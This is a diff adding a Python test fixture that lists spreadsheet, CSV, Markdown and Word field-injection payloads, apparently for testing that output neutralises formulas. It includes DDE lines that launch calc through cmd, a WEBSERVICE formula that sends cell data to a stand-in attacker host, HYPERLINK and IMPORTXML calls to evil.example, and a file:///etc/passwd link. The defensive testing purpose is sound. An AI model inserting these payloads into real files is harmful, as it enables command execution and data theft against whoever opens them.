@@ -1,0 +1,52 @@
+"""Words that try to become formulas, links, fields or mark-up in a table, a note or a document; with those of the other forms, over sixty."""
+
+from __future__ import annotations
+
+from tests.tell.payloads import PAYLOADS as SHOWN
+
+FORMULAS = (
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "'=1+1",
+    '"=1+1',
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "\uff1d1+1",
+    "\uff0b1+1",
+    "\uff20SUM(1)",
+    ";=1+1",
+    "a;=1+1;b",
+    "a; +1+1",
+    'a","=1+1',
+    'a"\r\n=1+1',
+    "a\t=1+1\tb",
+    '=HYPERLINK("https://evil.example","click")',
+    '=WEBSERVICE("https://evil.example/?"&A1)',
+    '=IMPORTXML("https://evil.example","//a")',
+    '=DDE("cmd";"/C calc";"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(cmd|' /C calc'!A0)",
+    "{=1+1}",
+    "_x003D_1+1",
+    "internal:'claims'!A1",
+    "external:c:\\windows\\calc.exe",
+    "mailto:a",
+    "file:///etc/passwd",
+    "[[Secret note|words]]",
+    "![[secret.pdf]]",
+    "[x](obsidian://open?vault=x)",
+    "<obsidian://open?vault=x>",
+    "`= this.file.name`",
+    "<%* tR += 1 %>",
+    '{ HYPERLINK "https://evil.example" }',
+    '\x13 INCLUDETEXT "c:\\\\x" \x15',
+    "<w:instrText>HYPERLINK x</w:instrText>",
+)
+PAYLOADS = (*SHOWN, *FORMULAS)
